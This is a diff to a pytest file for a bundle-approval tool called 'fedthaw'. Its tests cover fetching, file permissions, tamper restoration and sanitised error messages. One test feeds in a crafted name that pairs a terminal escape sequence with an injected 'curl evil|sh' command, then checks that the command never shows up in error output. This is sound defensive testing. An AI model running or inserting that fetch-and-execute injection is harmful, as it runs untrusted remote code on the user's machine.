@@ -38,8 +38,7 @@ def never() -> bytes:
 def test_what_is_not_approved_is_not_even_fetched(made_home: SiteHome) -> None:
     with pytest.raises(SiteError) as caught:
         approved_bundle(made_home, DIGEST, never)
-    folder = str(made_home.path.parent)
-    assert f"fedthaw site approve {folder} {DIGEST}" in str(caught.value)
+    assert f"fedthaw site approve FOLDER {DIGEST}" in str(caught.value)
     assert DIGEST in caught.value.shareable
     assert "/" not in caught.value.shareable
     assert not made_home.bundles.exists()
@@ -93,12 +92,24 @@ def test_a_damaged_list_of_approvals_lets_nothing_run(made_home: SiteHome) -> No
         approved_bundle(made_home, DIGEST, lambda: CONTENT)
 
 
-def test_a_bundle_is_unpacked_once_for_its_owner_alone(made_home: SiteHome) -> None:
+def test_a_bundle_is_unpacked_for_its_owner_alone(made_home: SiteHome) -> None:
     folder = unpack(made_home, DIGEST, CONTENT)
     assert (folder / "client" / "app.py").read_bytes() == b"app = 1\n"
     for path in (folder, *folder.rglob("*")):
         assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600)
-    assert unpack(made_home, DIGEST, b"not looked at again") == folder
+    # What was changed there since does not run.
+    (folder / "client" / "app.py").write_text("app = evil\n")
+    (folder / "client" / "more.py").touch()
+    assert unpack(made_home, DIGEST, CONTENT) == folder
+    assert (folder / "client" / "app.py").read_bytes() == b"app = 1\n"
+    assert not (folder / "client" / "more.py").exists()
+
+
+def test_a_name_that_is_no_digest_is_not_shown(made_home: SiteHome) -> None:
+    name = "aa\x1b[2J; curl evil|sh #"
+    with pytest.raises(SiteError) as caught:
+        approved_bundle(made_home, name, lambda: CONTENT)
+    assert "curl" not in str(caught.value) + caught.value.shareable
 
 
 def test_a_folder_that_was_left_half_unpacked_is_completed(
